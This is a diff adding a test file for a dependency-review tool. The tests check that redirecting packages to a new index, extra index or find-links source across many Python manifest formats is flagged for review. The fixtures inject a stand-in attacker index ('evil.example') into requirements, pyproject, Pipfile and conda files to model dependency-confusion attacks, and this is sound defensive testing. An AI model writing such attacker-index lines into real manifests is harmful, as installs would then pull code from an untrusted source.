@@ -1,0 +1,247 @@
+"""A change of source is a change of package: every manifest family's way of choosing an index, an extra index,
+find-links or a per-name source moves the names it applies to, and each moved name is reviewed (HC004) with
+the source in its message; an approval covers exactly the source it was reviewed from.
+
+Through real git repositories; the property runs over (manifest family x source option x name approved /
+declared / new).
+"""
+
+from __future__ import annotations
+
+import json
+from collections.abc import Callable
+from typing import Any
+
+import pytest
+from hypothesis import HealthCheck, given, settings
+from hypothesis import strategies as st
+
+from hallucheck.manifests.sources import INDEX, covers, source, split_options
+from tests.conftest import Repo
+
+EVIL = "https://evil.example/simple"
+TORCH = "https://download.pytorch.org/whl/cpu"
+PROJECT = '[project]\nname = "demo"\nversion = "0.1"\ndependencies = []\n'
+
+Manifest = Callable[[list[str], str | None], dict[str, Any]]
+"""(names, source URL or None) -> files."""
+
+
+def _requirements(option: str) -> Manifest:
+    def files(names: list[str], url: str | None) -> dict[str, str]:
+        lines = [*names, *([f"{option} {url}"] if url else [])]
+        return {"pyproject.toml": PROJECT, "requirements.txt": "".join(f"{line}\n" for line in lines)}
+
+    return files
+
+
+def _included(names: list[str], url: str | None) -> dict[str, str]:
+    """The option in a file the requirements file includes: it applies to the whole install."""
+    return {"pyproject.toml": PROJECT, "requirements.txt": "-r base.txt\n" + "".join(f"{n}\n" for n in names),
+            "base.txt": f"--extra-index-url {url}\n" if url else "# base\n"}  # fmt: skip
+
+
+def _constraints(names: list[str], url: str | None) -> dict[str, str]:
+    return {"pyproject.toml": PROJECT, "requirements.txt": "-c constraints.txt\n" + "".join(f"{n}\n" for n in names),
+            "constraints.txt": f"--index-url {url}\n" if url else "# pins\n"}  # fmt: skip
+
+
+def _pyproject(tail: Callable[[list[str], str], str]) -> Manifest:
+    def files(names: list[str], url: str | None) -> dict[str, str]:
+        text = f'[project]\nname = "demo"\nversion = "0.1"\ndependencies = {json.dumps(names)}\n'
+        return {"pyproject.toml": text + (tail(names, url) if url else "")}
+
+    return files
+
+
+def _uv_sources(names: list[str], url: str) -> str:
+    pinned = "".join(f'{name} = {{ index = "private" }}\n' for name in names)
+    return f'\n[[tool.uv.index]]\nname = "private"\nurl = "{url}"\nexplicit = true\n\n[tool.uv.sources]\n{pinned}'
+
+
+def _poetry(per_name: bool) -> Manifest:
+    def files(names: list[str], url: str | None) -> dict[str, str]:
+        spec = '{ version = "*", source = "private" }' if per_name and url else '"*"'
+        deps = "".join(f"{name} = {spec}\n" for name in names)
+        priority = "explicit" if per_name else "supplemental"
+        sources = f'\n[[tool.poetry.source]]\nname = "private"\nurl = "{url}"\npriority = "{priority}"\n' if url else ""
+        text = f'[tool.poetry]\nname = "demo"\nversion = "0.1"\n\n[tool.poetry.dependencies]\npython = "^3.10"\n{deps}'
+        return {"pyproject.toml": text + sources}
+
+    return files
+
+
+def _pipfile(per_name: bool) -> Manifest:
+    def files(names: list[str], url: str | None) -> dict[str, str]:
+        spec = '{ version = "*", index = "private" }' if per_name and url else '"*"'
+        head = '[[source]]\nurl = "https://pypi.org/simple"\nname = "pypi"\n'
+        extra = f'\n[[source]]\nurl = "{url}"\nname = "private"\n' if url else ""
+        packages = "".join(f"{name} = {spec}\n" for name in names)
+        return {"pyproject.toml": PROJECT, "Pipfile": f"{head}{extra}\n[packages]\n{packages}"}
+
+    return files
+
+
+def _conda(names: list[str], url: str | None) -> dict[str, str]:
+    option = [f"--extra-index-url {url}"] if url else []
+    items = "".join(f"    - {item}\n" for item in [*option, *names])
+    return {"pyproject.toml": PROJECT, "environment.yml": f"name: x\ndependencies:\n  - python\n  - pip:\n{items}"}
+
+
+FAMILIES: dict[str, Manifest] = {
+    "requirements -i": _requirements("-i"),
+    "requirements --index-url": _requirements("--index-url"),
+    "requirements --extra-index-url": _requirements("--extra-index-url"),
+    "requirements --find-links": _requirements("--find-links"),
+    "requirements -f": _requirements("-f"),
+    "requirements -r include": _included,
+    "requirements -c constraints": _constraints,
+    "uv index-url": _pyproject(lambda names, url: f'\n[tool.uv]\nindex-url = "{url}"\n'),
+    "uv extra-index-url": _pyproject(lambda names, url: f'\n[tool.uv]\nextra-index-url = ["{url}"]\n'),
+    "uv find-links": _pyproject(lambda names, url: f'\n[tool.uv]\nfind-links = ["{url}"]\n'),
+    "uv [[tool.uv.index]]": _pyproject(lambda names, url: f'\n[[tool.uv.index]]\nname = "x"\nurl = "{url}"\n'),
+    "uv sources index": _pyproject(_uv_sources),
+    "poetry source": _poetry(per_name=False),
+    "poetry per-name source": _poetry(per_name=True),
+    "pdm source": _pyproject(lambda names, url: f'\n[[tool.pdm.source]]\nname = "x"\nurl = "{url}"\n'),
+    "pipfile source": _pipfile(per_name=False),
+    "pipfile per-name index": _pipfile(per_name=True),
+    "conda pip section": _conda,
+}
+
+
+def _approval(name: str, requirement: str) -> str:
+    return f"\n[tool.hallucheck.approved]\n{name} = {json.dumps(requirement)}\n"
+
+
+def _with_approval(files: dict[str, Any], name: str, requirement: str) -> dict[str, Any]:
+    pyproject = files.get("pyproject.toml", PROJECT)
+    return {**files, "pyproject.toml": pyproject + _approval(name, requirement)}
+
+
+def _hc004(outcome: Any) -> dict[str, str]:
+    return {item["distribution"]: item["message"] for item in outcome.json()["findings"] if item["code"] == "HC004"}
+
+
+@pytest.mark.parametrize("family", FAMILIES)
+def test_a_new_source_moves_every_declared_name(repo: Repo, run: Any, family: str) -> None:
+    """A11: the names stay, the source changes: each name is a package to review, named with the source."""
+    manifest = FAMILIES[family]
+    repo.commit(manifest(["requests", "attrs"], None), "base")
+    repo.stage(manifest(["requests", "attrs"], EVIL))
+    outcome = run()
+    assert outcome.code == 1, outcome.out
+    reviewed = _hc004(outcome)
+    assert set(reviewed) == {"requests", "attrs"}, outcome.out
+    assert all("evil.example" in message for message in reviewed.values()), reviewed
+
+
+@pytest.mark.parametrize("family", FAMILIES)
+def test_a_source_already_in_the_base_moves_nothing(repo: Repo, run: Any, family: str) -> None:
+    manifest = FAMILIES[family]
+    repo.commit(manifest(["requests", "attrs"], TORCH), "base")
+    files = manifest(["requests", "attrs"], TORCH)
+    repo.stage({**files, "demo.py": "import requests\n"})
+    assert run().code == 0
+    assert run("--all-files").code == 0  # files mode: a committed source is no finding
+
+
+@pytest.mark.parametrize("family", FAMILIES)
+def test_an_approval_from_the_index_does_not_cover_another_source(repo: Repo, run: Any, family: str) -> None:
+    manifest = FAMILIES[family]
+    repo.commit(_with_approval(manifest(["requests"], None), "fakepkg-zz", "fakepkg-zz"), "base")
+    repo.stage(_with_approval(manifest(["requests", "fakepkg-zz"], EVIL), "fakepkg-zz", "fakepkg-zz"))
+    outcome = run()
+    reviewed = _hc004(outcome)
+    assert "fakepkg-zz" in reviewed and "another source is another package to review" in reviewed["fakepkg-zz"]
+
+
+@pytest.mark.parametrize("family", FAMILIES)
+def test_approving_the_moved_names_records_their_source(
+    repo: Repo, run: Any, family: str, capsys: pytest.CaptureFixture[str]
+) -> None:
+    """Following the hint once (`hallucheck approve --all-added`) reaches a passing commit, and the approval
+    records the source: the same names from the index again are another review."""
+    manifest = FAMILIES[family]
+    repo.commit(manifest(["requests"], None), "base")
+    repo.stage(manifest(["requests", "fakepkg-zz"], EVIL))
+    approved = repo.check("approve", "--all-added", json_output=False, capsys=capsys)
+    assert approved.code == 0, approved.out + approved.err
+    repo.git("add", "-A")
+    assert run().code == 0, run(json_output=False).out
+    text = (repo.root / "pyproject.toml").read_text()
+    assert "evil.example" in text, text
+
+
+def test_the_a11_reproduction(repo: Repo, run: Any) -> None:
+    """ATTACK.md A11, as written there."""
+    repo.commit({"pyproject.toml": PROJECT + _approval("fakepkg-zz", "fakepkg-zz"), "requirements.txt": "requests\n"})
+    repo.stage({"requirements.txt": "requests\n-i https://evil.example/simple\nfakepkg-zz\n"})
+    outcome = run()
+    assert outcome.code == 1 and set(_hc004(outcome)) == {"requests", "fakepkg-zz"}, outcome.out
+    repo.stage({"requirements.txt": "--extra-index-url https://evil.example/simple\nrequests\n"})
+    outcome = run()
+    assert outcome.code == 1 and set(_hc004(outcome)) == {"requests"}, outcome.out
+
+
+def test_a_name_moved_by_an_included_file_is_reported_at_the_option(repo: Repo, run: Any) -> None:
+    """The including file did not change: the finding is where the change wrote the source (one comment there
+    suppresses it)."""
+    repo.commit({"pyproject.toml": PROJECT, "requirements.txt": "-r base.txt\nrequests\n", "base.txt": "attrs\n"})
+    repo.stage({"base.txt": f"attrs\n--extra-index-url {EVIL}\n"})
+    findings = [item for item in run().json()["findings"] if item["code"] == "HC004"]
+    assert {(item["distribution"], item["path"], item["line"]) for item in findings} == {
+        ("requests", "base.txt", 2), ("attrs", "base.txt", 1)}
+
+
+def test_the_default_index_written_out_moves_nothing(repo: Repo, run: Any) -> None:
+    repo.commit({"pyproject.toml": PROJECT, "requirements.txt": "requests\n"})
+    repo.stage({"requirements.txt": "-i https://pypi.org/simple/\nrequests\n"})
+    assert run().code == 0
+
+
+def test_credentials_in_an_index_url_are_not_repeated(repo: Repo, run: Any) -> None:
+    repo.commit({"pyproject.toml": PROJECT, "requirements.txt": "requests\n"})
+    repo.stage({"requirements.txt": "--extra-index-url https://user:s3cret@host.example/simple\nrequests\n"})
+    outcome = run()
+    assert outcome.code == 1 and "s3cret" not in outcome.out and "https://***@host.example/simple" in outcome.out
+
+
+def test_conda_channels_move_conda_names_only(repo: Repo, run: Any) -> None:
+    base = "name: x\nchannels:\n  - conda-forge\ndependencies:\n  - numpy\n  - pip:\n    - requests\n"
+    repo.commit({"pyproject.toml": PROJECT, "environment.yml": base})
+    repo.stage({"environment.yml": base.replace("  - conda-forge\n", "  - conda-forge\n  - evilchan\n")})
+    assert set(_hc004(run())) == {"numpy"}
+    repo.stage({"environment.yml": base.replace("    - requests", f"    - --extra-index-url {EVIL}\n    - requests")})
+    assert set(_hc004(run())) == {"requests"}
+
+
+def test_uv_git_and_url_sources_are_direct_references(repo: Repo, run: Any) -> None:
+    text = '[project]\nname = "demo"\nversion = "0.1"\ndependencies = ["requests", "attrs"]\n'
+    repo.commit({"pyproject.toml": text})
+    repo.stage({"pyproject.toml": text + '\n[tool.uv.sources]\nrequests = { git = "https://github.com/x/requests", '
+                'tag = "v1" }\nattrs = { url = "https://host.example/attrs-1.0-py3-none-any.whl" }\n'})
+    reviewed = _hc004(run())
+    assert set(reviewed) == {"requests", "attrs"}
+    assert "git+https://github.com/x/requests@v1" in reviewed["requests"]
+
+
+# --- the notation -----------------------------------------------------------------------------------------------
+
+_URLS = st.from_regex(r"https://[a-z]{1,8}\.example/[a-z/]{0,12}", fullmatch=True)
+_OPTIONS = st.sampled_from(["--index-url", "--extra-index-url", "--find-links", "--trusted-host", "--index"])
+
+
+@given(options=st.lists(st.tuples(_OPTIONS, _URLS), min_size=1, max_size=3), order=st.randoms())
+@settings(suppress_health_check=[HealthCheck.too_slow])
+def test_source_options_are_a_set(options: list[tuple[str, str]], order: Any) -> None:
+    written = [f"{option} {url}" for option, url in options]
+    shuffled = list(written)
+    order.shuffle(shuffled)
+    assert source("x " + " ".join(written)) == source("x>=1 " + " ".join(shuffled)) != INDEX
+    assert not covers("x", "x " + " ".join(written)) and not covers("x " + " ".join(written), "x")
+    assert split_options("x==1 " + " ".join(written))[0] == "x==1"
+
+
+def test_a_direct_reference_ignores_the_indexes() -> None:
+    assert source(f"x @ https://host/x.whl --index-url {EVIL}") == "https://host/x.whl"
